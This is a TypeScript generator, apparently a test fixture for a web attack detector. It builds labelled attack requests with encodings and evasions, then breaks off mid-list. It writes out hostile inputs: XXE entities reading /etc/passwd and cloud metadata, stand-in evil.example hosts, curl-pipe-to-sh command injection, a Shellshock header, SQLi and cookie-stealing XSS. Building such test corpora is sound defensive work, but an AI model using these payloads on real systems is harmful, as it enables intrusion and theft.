/**
 * Attack lines: payload families (payloads.ts) x locations x encodings, chosen with the seeded PRNG, plus
 * structured generators for the classes whose payload IS the structure (nosqli, proto, xxe) and a few
 * hand-written requests per class.
 */
import type { AttackClass } from '../../src/detect/types.js';
import {
  CMDI,
  JNDI,
  LDAP,
  NOSQLI_JS,
  type Payload,
  PROTO_PROPS,
  SQLI,
  SSRF,
  SSTI,
  TRAVERSAL,
  XSS,
} from './payloads.js';
import {
  type CorpusLine,
  type CorpusRequest,
  clientHeaders,
  encAll,
  encDouble,
  encMin,
  encPlus,
  encStd,
  encU,
  formBody,
  jsonUnicodeEscape,
  mixCase,
  multipart,
  type Rng,
} from './util.js';

type Loc = 'query' | 'path' | 'json' | 'form' | 'multipart' | 'ua' | 'referer' | 'xff' | 'cookie' | 'header';

type Enc = 'std' | 'min' | 'plus' | 'double' | 'u' | 'all';
const ENCODERS: Record<Enc, (s: string) => string> = {
  std: encStd,
  min: encMin,
  plus: encPlus,
  double: encDouble,
  u: encU,
  all: encAll,
};

function weighted<T extends string>(rng: Rng, w: Partial<Record<T, number>>): T {
  const entries = Object.entries(w) as Array<[T, number]>;
  const total = entries.reduce((s, [, n]) => s + n, 0);
  let r = rng.next() * total;
  for (const [k, n] of entries) {
    r -= n;
    if (r < 0) return k;
  }
  return entries[entries.length - 1]![0];
}

const URL_ENC_WEIGHTS: Record<Enc, number> = { std: 40, min: 26, plus: 14, double: 8, u: 5, all: 7 };

/** Where each class is placed, by weight: the parameters an application really reads such input from. */
const LOC_WEIGHTS: Partial<Record<AttackClass, Partial<Record<Loc, number>>>> = {
  sqli: { query: 34, path: 9, json: 20, form: 12, multipart: 4, ua: 4, xff: 5, referer: 3, cookie: 7, header: 2 },
  xss: { query: 30, path: 7, json: 25, form: 15, multipart: 7, referer: 5, ua: 4, cookie: 5, header: 2 },
  cmdi: { query: 35, json: 25, form: 18, multipart: 12, ua: 5, header: 5 },
  traversal: { query: 38, path: 22, json: 14, form: 6, multipart: 10, cookie: 10 },
  ssrf: { query: 45, json: 35, form: 14, multipart: 6 },
  jndi: { ua: 22, header: 12, referer: 6, xff: 6, query: 18, json: 18, form: 8, cookie: 6, path: 4 },
  ssti: { query: 35, json: 30, form: 18, multipart: 10, path: 7 },
  ldap: { query: 45, form: 30, json: 25 },
  nosqli: { query: 40, form: 25, json: 35 },
};

/** Parameter names each class arrives in. */
const PARAMS: Record<string, string[]> = {
  sqli: ['id', 'q', 'search', 'category', 'user', 'sort', 'order', 'product_id', 'filter', 'email', 'page', 'lang'],
  xss: ['q', 'search', 'name', 'comment', 'message', 'title', 'return_to', 'msg', 'error', 'display_name', 'query'],
  cmdi: ['host', 'ip', 'domain', 'filename', 'file', 'target', 'cmd', 'address', 'ping', 'path'],
  traversal: ['file', 'path', 'template', 'page', 'doc', 'download', 'include', 'lang', 'filename', 'image'],
  ssrf: ['url', 'uri', 'target', 'callback', 'webhook', 'image_url', 'feed', 'endpoint', 'src', 'fetch', 'proxy'],
  jndi: ['q', 'search', 'username', 'lang', 'version', 'ref', 'name'],
  ssti: ['name', 'template', 'greeting', 'subject', 'message', 'q', 'title', 'preview'],
  ldap: ['user', 'username', 'uid', 'cn', 'search', 'login', 'member'],
  nosqli: ['username', 'password', 'q', 'search', 'id', 'name', 'where'],
};

const RESOURCES = ['products', 'users', 'orders', 'articles', 'files', 'reports', 'accounts', 'items', 'search'];

/** Nested JSON shapes so payloads sit at realistic depths; `v` is the payload. */
const JSON_SHAPES: Record<string, Array<(v: string, k: string) => unknown>> = {
  default: [
    (v, k) => ({ [k]: v }),
    (v, k) => ({ filter: { [k]: v }, page: 1, per_page: 20 }),
    (v, k) => ({ data: { type: 'items', attributes: { [k]: v, tags: ['a', 'b'] } } }),
    (v, k) => ({
      items: [
        { sku: 'SKU-1042', qty: 1 },
        { sku: 'SKU-2210', qty: 2, [k]: v },
      ],
    }),
    (v, k) => ({ user: { profile: { [k]: v, locale: 'en-US' } } }),
    (v, k) => ({ variables: { [k]: v }, operationName: 'Search' }),
  ],
  login: [
    (v) => ({ username: v, password: 'hunter2' }),
    (v) => ({ email: 'a@example.com', password: v }),
    (v) => ({ login: v, password: 'Secret123!', remember: true }),
  ],
};

function pickParam(rng: Rng, cls: string): string {
  return rng.pick(PARAMS[cls] ?? ['q']);
}

function jsonBody(rng: Rng, cls: string, v: string): string {
  const k = pickParam(rng, cls);
  const shapes = (cls === 'sqli' || cls === 'ldap') && rng.chance(0.35) ? JSON_SHAPES.login! : JSON_SHAPES.default!;
  const json = JSON.stringify(rng.pick(shapes)(v, k));
  return rng.chance(0.2) ? jsonUnicodeEscape(json) : json;
}

interface Placed {
  request: CorpusRequest;
  where: string;
}

/** Put one decoded (or raw wire-form) payload into one location of an otherwise ordinary request. */
export function place(rng: Rng, cls: AttackClass, pl: Payload, loc: Loc): Placed {
  const res = rng.pick(RESOURCES);
  const param = pickParam(rng, cls);
  const encName: Enc = pl.raw ? 'std' : weighted(rng, URL_ENC_WEIGHTS);
  const enc = pl.raw ? (s: string) => s : ENCODERS[encName];
  const tag = pl.raw ? 'raw' : encName;
  switch (loc) {
    case 'query': {
      const extra = rng.pick(['', '&page=2', '&limit=20&offset=0', '&sort=created_at', '&lang=en']);
      const first = rng.chance(0.3) ? `v=2&` : '';
      return {
        request: {
          method: 'GET',
          path: `/api/v1/${res}`,
          query: `${first}${param}=${enc(pl.p)}${extra}`,
          headers: clientHeaders(rng),
        },
        where: `query.${param}; enc=${tag}`,
      };
    }
    case 'path': {
      // A path segment: "/" inside the value is encoded unless the payload is a raw traversal wire form.
      const seg = pl.raw
        ? pl.p
        : cls === 'traversal' && rng.chance(0.5)
          ? encMin(pl.p).replace(/\?/g, '%3F')
          : encStd(pl.p);
      const prefix =
        cls === 'traversal'
          ? rng.pick(['/static/', '/download/', '/api/v1/files/', '/assets/img/', '/'])
          : `/api/v1/${res}/`;
      return {
        request: {
          method: 'GET',
          path: `${prefix}${seg}`,
          query: rng.chance(0.3) ? 'format=json' : '',
          headers: clientHeaders(rng),
        },
        where: `path; enc=${pl.raw ? 'raw' : 'path'}`,
      };
    }
    case 'json': {
      const raw = pl.raw;
      // A raw wire form is meaningless in JSON; callers never send one here.
      if (raw) throw new Error('raw payload in JSON');
      return {
        request: {
          method: rng.pick(['POST', 'PUT', 'PATCH']),
          path: `/api/v1/${res}${rng.chance(0.4) ? `/${rng.int(9000) + 100}` : ''}`,
          query: '',
          headers: clientHeaders(rng, {
            contentType: rng.pick(['application/json', 'application/json; charset=utf-8']),
          }),
          body: jsonBody(rng, cls, pl.p),
        },
        where: 'json',
      };
    }
    case 'form': {
      const body = pl.raw
        ? `${param}=${pl.p}&submit=Send`
        : formBody([
            ['csrf_token', rng.alnum(24)],
            [param, pl.p],
            ['submit', 'Send'],
          ]);
      return {
        request: {
          method: 'POST',
          path: rng.pick(['/login', '/contact', '/account/settings', `/api/v1/${res}`]),
          query: '',
          headers: clientHeaders(rng, { browser: true, contentType: 'application/x-www-form-urlencoded' }),
          body,
        },
        where: `form.${param}`,
      };
    }
    case 'multipart': {
      const asFilename = cls === 'traversal' || (cls === 'cmdi' && rng.chance(0.5));
      const mp = asFilename
        ? multipart(rng, [
            { name: 'description', value: 'quarterly numbers' },
            { name: 'file', filename: pl.p, type: 'application/pdf', value: '%PDF-1.7 ...' },
          ])
        : multipart(rng, [
            { name: param, value: pl.p },
            { name: 'avatar', filename: 'me.png', type: 'image/png', value: 'PNG....' },
          ]);
      return {
        request: {
          method: 'POST',
          path: rng.pick(['/api/v1/uploads', '/profile', `/api/v1/${res}/import`]),
          query: '',
          headers: clientHeaders(rng, { browser: true, contentType: mp.contentType }),
          body: mp.body,
        },
        where: asFilename ? 'multipart.filename' : `multipart.${param}`,
      };
    }
    case 'ua':
    case 'referer':
    case 'xff':
    case 'cookie':
    case 'header': {
      const h = clientHeaders(rng);
      let where: string = loc;
      if (loc === 'ua') h['user-agent'] = rng.chance(0.5) ? pl.p : `${h['user-agent']} ${pl.p}`;
      else if (loc === 'referer')
        h.referer = `https://www.example.com/search?q=${rng.chance(0.5) ? encStd(pl.p) : encMin(pl.p)}`;
      else if (loc === 'xff') h['x-forwarded-for'] = rng.chance(0.5) ? pl.p : `203.0.113.7, ${pl.p}`;
      else if (loc === 'cookie') {
        const name = rng.pick(['tracking', 'lang', 'cart', 'prefs', 'last_search']);
        h.cookie = `sid=${rng.alnum(32)}; ${name}=${pl.raw ? pl.p : rng.chance(0.6) ? encStd(pl.p) : pl.p.replace(/;/g, '%3B')}`;
        where = `cookie.${name}`;
      } else {
        const name = rng.pick(['x-api-version', 'x-client-name', 'x-search', 'x-device-id', 'x-correlation-id']);
        h[name] = pl.p;
        where = `header.${name}`;
      }
      return {
        request: { method: 'GET', path: `/api/v1/${res}`, query: rng.chance(0.5) ? 'page=1' : '', headers: h },
        where,
      };
    }
  }
}

/** Payload-level evasions per class (the decoded value changes, not just its transport encoding). */
function variants(rng: Rng, cls: AttackClass, p: Payload): Payload[] {
  const out: Payload[] = [p];
  if (p.raw) return out;
  const v = (f: string, s: string) => {
    if (s !== p.p && !out.some((o) => o.p === s)) out.push({ f: `${p.f}+${f}`, p: s });
  };
  if (cls === 'sqli') {
    v('case', mixCase(rng, p.p));
    v('comment-space', p.p.replace(/ /g, '/**/'));
    v(
      'whitespace',
      p.p.replace(/ /g, () => rng.pick(['\t', '\n', '\r\n', '  ', '\u000b'])),
    );
    if (/union|select/i.test(p.p))
      v(
        'versioned-comment',
        p.p.replace(/\b(union|select)\b/gi, (m) => `/*!50000${m}*/`),
      );
  } else if (cls === 'xss') {
    v(
      'case',
      p.p.replace(/<\/?[a-z]+|\bon[a-z]+=|javascript:/gi, (m) => mixCase(rng, m)),
    );
    v('slash-space', p.p.replace(/<([a-z]+) /i, '<$1/'));
    v(
      'tab-attr',
      p.p.replace(/ (on[a-z]+=)/i, (_m, a: string) => `${rng.pick(['\t', '\n', '\f'])}${a}`),
    );
  } else if (cls === 'cmdi') {
    if (p.p.startsWith(';') || p.p.startsWith('|')) v('ifs', p.p.replace(/ /g, '${IFS}'));
    if (p.p.startsWith('; ')) v('newline-sep', `\n${p.p.slice(2)}`);
  }
  return out;
}

const URL_ONLY: Loc[] = ['query', 'path', 'form', 'cookie'];

function generic(rng: Rng, cls: AttackClass, payloads: readonly Payload[], perPayload: number): CorpusLine[] {
  const lines: CorpusLine[] = [];
  for (const base of payloads) {
    const vs = variants(rng, cls, base);
    // Each base payload appears at least `perPayload` times; evasion variants count toward it.
    const todo: Payload[] = [...vs];
    while (todo.length < perPayload) todo.push(base);
    for (const pl of todo) {
      const weights = LOC_WEIGHTS[cls]!;
      let loc = weighted(rng, weights);
      if (pl.raw && !URL_ONLY.includes(loc)) loc = rng.pick(cls === 'traversal' ? URL_ONLY : ['query', 'form']);
      // Header values cannot carry control characters other than HTAB (RFC 9110; Node rejects them).
      if (/[\u0000-\u0008\u000a-\u001f\u007f]/.test(pl.p) && ['ua', 'referer', 'xff', 'header', 'cookie'].includes(loc))
        loc = 'query';
      const placed = place(rng, cls, pl, loc);
      lines.push({ id: '', label: cls, request: placed.request, note: `${pl.f}; ${placed.where}` });
    }
  }
  return lines;
}

// --- structured classes ---

function nosqli(rng: Rng): CorpusLine[] {
  const out: CorpusLine[] = [];
  const add = (request: CorpusRequest, note: string) => out.push({ id: '', label: 'nosqli', request, note });
  const pairs: Array<[string, string]> = [
    ['username', 'password'],
    ['email', 'password'],
    ['login', 'pass'],
    ['user', 'pwd'],
  ];
  const qOps: Array<[string, string, string]> = [
    ['ne', '[$ne]=', 'x'],
    ['ne', '[$ne]=', ''],
    ['gt', '[$gt]=', ''],
    ['regex', '[$regex]=', '.*'],
    ['regex', '[$regex]=', '^adm'],
    ['exists', '[$exists]=', 'true'],
    ['in', '[$in][]=', 'admin'],
    ['nin', '[$nin][]=', 'nobody'],
    ['gte', '[$gte]=', ' '],
  ];
  const bracket = (s: string, style: number) =>
    style === 0
      ? s
      : style === 1
        ? s.replace(/\[/g, '%5B').replace(/\]/g, '%5D').replace(/\$/g, '%24')
        : s.replace(/\$/g, '%24');
  // Query string and form-encoded logins.
  for (const [u, p] of pairs) {
    for (const [op, sfx, val] of qOps) {
      const style = rng.int(3);
      const q = `${u}${bracket(sfx, style)}${encodeURIComponent(val)}&${p}${bracket(sfx, style)}${encodeURIComponent(val)}`;
      if (rng.chance(0.5))
        add(
          { method: 'GET', path: '/api/v1/auth/check', query: q, headers: clientHeaders(rng) },
          `query-operator-${op}; query`,
        );
      else
        add(
          {
            method: 'POST',
            path: '/login',
            query: '',
            headers: clientHeaders(rng, { browser: true, contentType: 'application/x-www-form-urlencoded' }),
            body: q,
          },
          `query-operator-${op}; form`,
        );
    }
  }
  for (const op of ['ne', 'gt', 'regex', 'where', 'exists', 'nin', 'in', 'expr']) {
    const field = rng.pick(['id', 'token', 'status', 'owner', 'reset_token', 'api_key']);
    const q =
      op === 'where'
        ? `$where=${encStd(rng.pick(['sleep(5000)', 'this.password.length>0', '1==1', 'function(){return true}']))}`
        : op === 'expr'
          ? `filter[$expr][$eq][]=1&filter[$expr][$eq][]=1`
          : `${field}[$${op}]${op === 'in' || op === 'nin' ? '[]' : ''}=${op === 'regex' ? '.%2A' : '1'}`;
    add(
      {
        method: 'GET',
        path: `/api/v1/${rng.pick(['users', 'orders', 'tokens'])}`,
        query: q,
        headers: clientHeaders(rng),
      },
      `query-operator-${op}; query`,
    );
    add(
      {
        method: 'GET',
        path: '/api/v1/password-reset',
        query: `${field}[%24${op === 'where' ? 'ne' : op}]=${rng.alnum(4)}`,
        headers: clientHeaders(rng),
      },
      `query-operator-${op}; query; enc=dollar`,
    );
  }
  // JSON bodies.
  const jsonTemplates: Array<[string, (u: string, p: string) => unknown]> = [
    ['ne-null', (u, p) => ({ [u]: { $ne: null }, [p]: { $ne: null } })],
    ['gt-empty', (u, p) => ({ [u]: 'admin', [p]: { $gt: '' } })],
    ['regex', (u, p) => ({ [u]: { $regex: '^adm' }, [p]: { $ne: '1' } })],
    ['regex-options', (u, p) => ({ [u]: { $regex: '.*', $options: 'i' }, [p]: { $exists: true } })],
    ['in', (u, p) => ({ [u]: { $in: ['admin', 'root', 'administrator'] }, [p]: { $gt: '' } })],
    ['nin', (u, p) => ({ [u]: { $nin: ['guest'] }, [p]: { $ne: 'x' } })],
    ['where', () => ({ $where: 'sleep(5000) || true' })],
    ['where-fn', () => ({ filter: { $where: 'function() { return this.role == "admin" }' } })],
    ['where-string', (u) => ({ [u]: 'admin', $where: 'this.password.match(/^a.*/) != null' })],
    [
      'expr-function',
      () => ({ filter: { $expr: { $function: { body: 'function(){ return true }', args: [], lang: 'js' } } } }),
    ],
    ['or', (u, p) => ({ $or: [{ [u]: 'admin' }, { [p]: { $ne: null } }] })],
    ['exists', (u, p) => ({ [u]: 'admin', [p]: { $exists: true } })],
    ['gte-space', (u, p) => ({ [u]: { $gte: ' ' }, [p]: { $gte: ' ' } })],
    ['token-ne', () => ({ token: { $ne: '' }, new_password: 'Winter2024!' })],
    [
      'lookup',
      () => ({ pipeline: [{ $lookup: { from: 'users', localField: 'owner', foreignField: '_id', as: 'u' } }] }),
    ],
    ['elemmatch', () => ({ roles: { $elemMatch: { $ne: 'guest' } } })],
    ['nested-ne', (u) => ({ credentials: { [u]: 'admin', secret: { $ne: 'wrong' } } })],
  ];
  for (const [name, tpl] of jsonTemplates) {
    for (let i = 0; i < 3; i++) {
      const [u, p] = rng.pick(pairs);
      let body = JSON.stringify(tpl(u, p));
      let enc = '';
      if (rng.chance(0.25)) {
        body = body.replace(/"\$/g, '"\\u0024');
        enc = '; enc=json-unicode';
      }
      add(
        {
          method: 'POST',
          path: rng.pick(['/api/v1/auth/login', '/api/v1/sessions', '/api/v1/users/search', '/api/v1/password/reset']),
          query: '',
          headers: clientHeaders(rng, { contentType: 'application/json' }),
          body,
        },
        `json-operator-${name}; json${enc}`,
      );
    }
  }
  // Operator objects smuggled as a JSON string in a query value (parsers that JSON.parse params).
  for (const js of ['{"$gt":""}', '{"$ne":null}', '{"$where":"sleep(1000)"}', '{"$regex":".*"}']) {
    add(
      {
        method: 'GET',
        path: '/api/v1/users',
        query: `${rng.pick(['filter', 'where', 'q'])}=${encStd(`{"username":${js}}`)}`,
        headers: clientHeaders(rng),
      },
      'json-in-query; query',
    );
  }
  return out;
}

function proto(rng: Rng): CorpusLine[] {
  const out: CorpusLine[] = [];
  const add = (request: CorpusRequest, note: string) => out.push({ id: '', label: 'proto', request, note });
  const jsonTpl: Array<[string, (k: string, v: unknown) => unknown]> = [
    ['json-top', (k, v) => ({ name: 'Alice', ['__proto__']: { [k]: v } })],
    ['json-nested', (k, v) => ({ settings: { theme: 'dark', ['__proto__']: { [k]: v } } })],
    ['json-constructor', (k, v) => ({ constructor: { prototype: { [k]: v } } })],
    ['json-nested-constructor', (k, v) => ({ profile: { constructor: { prototype: { [k]: v } } } })],
    ['json-array', (k, v) => ({ items: [{ sku: 'A-1' }, { ['__proto__']: { [k]: v } }] })],
    ['json-deep', (k, v) => ({ a: { b: { c: { ['__proto__']: { [k]: v } } } } })],
  ];
  for (const [k, v] of PROTO_PROPS) {
    for (let i = 0; i < 5; i++) {
      const [name, tpl] = rng.pick(jsonTpl);
      // A computed ['__proto__'] key makes an own property, so JSON.stringify writes it (a plain literal would not).
      let body = JSON.stringify(tpl(k, v), null, rng.chance(0.2) ? 2 : undefined);
      let enc = '';
      if (rng.chance(0.2)) {
        body = body
          .replace(/"__proto__"/g, '"\\u005f\\u005fproto\\u005f\\u005f"')
          .replace(/"constructor"/g, '"\\u0063onstructor"');
        enc = '; enc=json-unicode';
      }
      add(
        {
          method: rng.pick(['POST', 'PUT', 'PATCH']),
          path: rng.pick(['/api/v1/users/me', '/api/v1/settings', '/api/v1/merge', '/api/v1/cart']),
          query: '',
          headers: clientHeaders(rng, { contentType: 'application/json' }),
          body,
        },
        `${name}; json${enc}`,
      );
    }
  }
  const qTpl: Array<[string, (k: string, v: string) => string]> = [
    ['query-bracket', (k, v) => `__proto__[${k}]=${v}`],
    ['query-dot', (k, v) => `__proto__.${k}=${v}`],
    ['query-constructor', (k, v) => `constructor[prototype][${k}]=${v}`],
    ['query-constructor-dot', (k, v) => `constructor.prototype.${k}=${v}`],
    ['query-nested', (k, v) => `filter[__proto__][${k}]=${v}`],
    ['query-encoded', (k, v) => `%5F%5Fproto%5F%5F%5B${k}%5D=${v}`],
    ['query-enc-brackets', (k, v) => `__proto__%5B${k}%5D=${v}`],
    ['query-nested-constructor', (k, v) => `user[constructor][prototype][${k}]=${v}`],
  ];
  for (const [k, v] of PROTO_PROPS) {
    if (typeof v === 'object') continue;
    for (let i = 0; i < 3; i++) {
      const [name, tpl] = rng.pick(qTpl);
      const pair = tpl(encStd(k), encStd(String(v)));
      if (rng.chance(0.65))
        add(
          {
            method: 'GET',
            path: `/api/v1/${rng.pick(RESOURCES)}`,
            query: `${rng.chance(0.5) ? 'page=1&' : ''}${pair}`,
            headers: clientHeaders(rng),
          },
          `${name}; query`,
        );
      else
        add(
          {
            method: 'POST',
            path: '/account/settings',
            query: '',
            headers: clientHeaders(rng, { browser: true, contentType: 'application/x-www-form-urlencoded' }),
            body: `theme=dark&${pair}`,
          },
          `${name}; form`,
        );
    }
  }
  for (const k of ['isAdmin', 'role', 'polluted']) {
    const mp = multipart(rng, [
      { name: 'display_name', value: 'Alice' },
      { name: `__proto__[${k}]`, value: 'true' },
    ]);
    add(
      {
        method: 'POST',
        path: '/profile',
        query: '',
        headers: clientHeaders(rng, { browser: true, contentType: mp.contentType }),
        body: mp.body,
      },
      'multipart-field-name; multipart',
    );
    add(
      {
        method: 'PUT',
        path: `/api/v1/settings/__proto__/${k}`,
        query: '',
        headers: clientHeaders(rng, { contentType: 'application/json' }),
        body: '{"value":true}',
      },
      'path-segment; path',
    );
  }
  return out;
}

function xxe(rng: Rng): CorpusLine[] {
  const out: CorpusLine[] = [];
  const targets = [
    'file:///etc/passwd',
    'file:///c:/windows/win.ini',
    'http://evil.example/xxe',
    'http://169.254.169.254/latest/meta-data/',
    'php://filter/convert.base64-encode/resource=/etc/passwd',
    'expect://id',
    'jar:http://evil.example/a.jar!/x',
    'netdoc:/etc/passwd',
    'file:///proc/self/environ',
    'ftp://evil.example:2121/x',
    'file:///etc/hostname',
  ];
  const roots = ['foo', 'data', 'order', 'user', 'request', 'root', 'invoice', 'stockCheck'];
  const ents = ['xxe', 'x', 'ext', 'file', 'a', 'data'];
  const decl = () =>
    rng.pick([
      '<?xml version="1.0"?>',
      '<?xml version="1.0" encoding="UTF-8"?>',
      '<?xml version="1.0" encoding="ISO-8859-1" standalone="no"?>',
      '',
    ]);
  const sp = () => rng.pick([' ', '  ', '\n', '\t']);
  const templates: Array<[string, (t: string, r: string, e: string) => string]> = [
    [
      'internal-system',
      (t, r, e) => `${decl()}<!DOCTYPE ${r} [${sp()}<!ENTITY ${e} SYSTEM "${t}">]><${r}><name>&${e};</name></${r}>`,
    ],
    [
      'internal-system-multiline',
      (t, r, e) =>
        `${decl()}\n<!DOCTYPE ${r} [\n  <!ELEMENT ${r} ANY >\n  <!ENTITY ${e} SYSTEM "${t}" >\n]>\n<${r}>&${e};</${r}>`,
    ],
    ['parameter-entity', (t, r, e) => `${decl()}<!DOCTYPE ${r} [<!ENTITY % ${e} SYSTEM "${t}"> %${e};]><${r}>1</${r}>`],
    [
      'external-dtd',
      (_t, r) => `${decl()}<!DOCTYPE ${r} SYSTEM "http://evil.example/${rng.alnum(5)}.dtd"><${r}>1</${r}>`,
    ],
    [
      'public-dtd',
      (_t, r) => `${decl()}<!DOCTYPE ${r} PUBLIC "-//Evil//DTD X//EN" "http://evil.example/x.dtd"><${r}/>`,
    ],
    [
      'oob',
      (t, r) =>
        `${decl()}<!DOCTYPE ${r} [<!ENTITY % file SYSTEM "${t}"><!ENTITY % dtd SYSTEM "http://evil.example/oob.dtd">%dtd;%send;]><${r}/>`,
    ],
    ['single-quoted', (t, r, e) => `<!DOCTYPE ${r} [<!ENTITY ${e} SYSTEM '${t}'>]><${r}>&${e};</${r}>`],
    [
      'soap',
      (t, _r, e) =>
        `${decl()}<!DOCTYPE soap:Envelope [<!ENTITY ${e} SYSTEM "${t}">]><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><getUser><id>&${e};</id></getUser></soap:Body></soap:Envelope>`,
    ],
    [
      'xinclude',
      (t, r) => `<${r} xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="${t}"/></${r}>`,
    ],
    [
      'local-dtd-error',
      (t, r) =>
        `${decl()}<!DOCTYPE ${r} [<!ENTITY % local_dtd SYSTEM "file:///usr/share/yelp/dtd/docbookx.dtd"><!ENTITY % ISOamso '<!ENTITY &#x25; file SYSTEM "${t}"><!ENTITY &#x25; eval "<!ENTITY &#x26;#x25; error SYSTEM &#x27;file:///nonexistent/&#x25;file;&#x27;>">&#x25;eval;&#x25;error;'>%local_dtd;]><${r}/>`,
    ],
  ];
  const seen = new Set<string>();
  let guard = 0;
  while (out.length < 92 && guard++ < 2000) {
    const [name, tpl] = rng.pick(templates);
    const t = rng.pick(targets);
    const doc = tpl(t, rng.pick(roots), rng.pick(ents));
    if (seen.has(doc)) continue;
    seen.add(doc);
    const ct =
      name === 'soap'
        ? rng.pick(['text/xml; charset=utf-8', 'application/soap+xml'])
        : rng.pick(['application/xml', 'text/xml', 'application/xml; charset=utf-8']);
    out.push({
      id: '',
      label: 'xxe',
      request: {
        method: 'POST',
        path:
          name === 'soap'
            ? '/services/UserService'
            : rng.pick(['/api/v1/import', '/api/v1/orders', '/xmlrpc', '/api/v1/stock/check', '/saml/acs']),
        query: '',
        headers: clientHeaders(rng, { browser: false, contentType: ct }),
        body: doc,
      },
      note: `${name}; xml-body`,
    });
  }
  // Billion laughs (entity expansion, no external target).
  for (let depth = 3; depth <= 6; depth++) {
    let d = '<!ENTITY lol "lol">';
    for (let i = 1; i < depth; i++) d += `<!ENTITY lol${i + 1} "${`&lol${i === 1 ? '' : i};`.repeat(10)}">`;
    out.push({
      id: '',
      label: 'xxe',
      request: {
        method: 'POST',
        path: '/api/v1/import',
        query: '',
        headers: clientHeaders(rng, { contentType: 'application/xml' }),
        body: `<?xml version="1.0"?><!DOCTYPE lolz [${d}]><lolz>&lol${depth};</lolz>`,
      },
      note: 'entity-expansion; xml-body',
    });
  }
  // XML uploaded as a file (SVG avatar, DOCX-like XML) and XML inside a form or JSON field.
  for (let i = 0; i < 8; i++) {
    const t = rng.pick(targets);
    const svg = `<?xml version="1.0" standalone="yes"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "${t}">]><svg width="128" height="128" xmlns="http://www.w3.org/2000/svg"><text font-size="16" x="0" y="16">&xxe;</text></svg>`;
    const mp = multipart(rng, [
      {
        name: 'avatar',
        filename: rng.pick(['avatar.svg', 'logo.svg', 'feed.xml']),
        type: rng.pick(['image/svg+xml', 'application/xml']),
        value: svg,
      },
    ]);
    out.push({
      id: '',
      label: 'xxe',
      request: {
        method: 'POST',
        path: '/api/v1/uploads',
        query: '',
        headers: clientHeaders(rng, { browser: true, contentType: mp.contentType }),
        body: mp.body,
      },
      note: 'svg-upload; multipart',
    });
  }
  for (let i = 0; i < 6; i++) {
    const t = rng.pick(targets);
    const doc = `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e SYSTEM "${t}">]><r>&e;</r>`;
    if (i % 2 === 0)
      out.push({
        id: '',
        label: 'xxe',
        request: {
          method: 'POST',
          path: '/api/v1/convert',
          query: '',
          headers: clientHeaders(rng, { contentType: 'application/x-www-form-urlencoded' }),
          body: formBody([
            ['format', 'xml'],
            ['xml', doc],
          ]),
        },
        note: 'xml-in-form; form.xml',
      });
    else
      out.push({
        id: '',
        label: 'xxe',
        request: {
          method: 'POST',
          path: '/api/v1/convert',
          query: '',
          headers: clientHeaders(rng, { contentType: 'application/json' }),
          body: JSON.stringify({ format: 'xml', document: doc }),
        },
        note: 'xml-in-json; json',
      });
  }
  return out;
}

/** Hand-written requests: shapes the generator does not produce. */
function handWritten(rng: Rng): CorpusLine[] {
  const h = (label: AttackClass, request: CorpusRequest, note: string): CorpusLine => ({
    id: '',
    label,
    request,
    note: `hand: ${note}`,
  });
  const json = (body: unknown) => JSON.stringify(body);
  return [
    h(
      'sqli',
      {
        method: 'POST',
        path: '/graphql',
        query: '',
        headers: clientHeaders(rng, { contentType: 'application/json' }),
        body: json({
          query: 'query($id: String!) { order(id: $id) { id total } }',
          variables: { id: "1' UNION SELECT card_number FROM payments--" },
        }),
      },
      'graphql variable',
    ),
    h(
      'sqli',
      {
        method: 'POST',
        path: '/services/Orders',
        query: '',
        headers: clientHeaders(rng, { contentType: 'text/xml; charset=utf-8' }),
        body: `<?xml version="1.0"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><GetOrder><Id>1 OR 1=1</Id></GetOrder></soap:Body></soap:Envelope>`,
      },
      'soap element',
    ),
    h(
      'sqli',
      {
        method: 'GET',
        path: '/api/v1/products',
        query: 'sort=price%2C(select%20case%20when%20(1%3D1)%20then%20price%20else%20name%20end)',
        headers: clientHeaders(rng),
      },
      'order-by expression',
    ),
    h(
      'sqli',
      { method: 'GET', path: '/api/v1/users/1%20AND%201%3D1', query: '', headers: clientHeaders(rng) },
      'numeric path id',
    ),
    h(
      'sqli',
      { method: 'GET', path: '/api/v1/items', query: 'ids[]=1&ids[]=2)%20OR%20(1%3D1', headers: clientHeaders(rng) },
      'array param',
    ),
    h(
      'xss',
      {
        method: 'POST',
        path: '/api/v1/comments',
        query: '',
        headers: clientHeaders(rng, { contentType: 'application/json' }),
        body: json({ post: 12, body: 'Nice post! <img src=x onerror=alert(document.cookie)>', notify: true }),
      },
      'comment with trailing payload',
    ),
    h(
      'xss',
      {
        method: 'GET',
        path: '/login',
        query: 'next=javascript%3Aalert(1)',
        headers: clientHeaders(rng, { browser: true }),
      },
      'redirect param js url',
    ),
    h(
      'xss',
      {
        method: 'POST',
        path: '/api/v1/profile',
        query: '',
        headers: clientHeaders(rng, { contentType: 'application/json' }),
        body: '{"bio":"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"}',
      },
      'json unicode escaped script',
    ),
    h(
      'xss',
      {
        method: 'GET',
        path: '/search',
        query: 'q=%3Csvg%2Fonload%3Dalert%281%29%3E',
        headers: clientHeaders(rng, { browser: true }),
      },
      'svg onload encoded',
    ),
    h(
      'cmdi',
      {
        method: 'POST',
        path: '/api/v1/tools/ping',
        query: '',
        headers: clientHeaders(rng, { contentType: 'application/json' }),
        body: json({ host: '8.8.8.8;curl${IFS}-s${IFS}evil.example|sh', count: 3 }),
      },
      'ping tool ifs',
    ),
    h(
      'cmdi',
      {
        method: 'GET',
        path: '/cgi-bin/status',
        query: '',
        headers: { ...clientHeaders(rng), 'user-agent': '() { :; }; /bin/bash -c "curl http://evil.example/x|sh"' },
      },
      'shellshock ua',
    ),
    h(
      'cmdi',
      {
        method: 'POST',
        path: '/api/v1/convert',
        query: '',
        headers: clientHeaders(rng, { contentType: 'application/json' }),
        body: json({ input: 'doc.docx', output: 'out.pdf$(id>/tmp/o)' }),
      },
      'converter output name',
    ),
    h(
      'traversal',
      { method: 'GET', path: '/static/..%2f..%2f..%2f..%2fetc%2fpasswd', query: '', headers: clientHeaders(rng) },
      'encoded slash in static path',
    ),
    h(
      'traversal',
      {
        method: 'GET',
        path: '/api/v1/export',
        query: 'template=....%2F%2F....%2F%2Fetc%2Fpasswd',
        headers: clientHeaders(rng),
      },
      'nested dots encoded',
    ),
    h(
      'traversal',
      {
        method: 'POST',
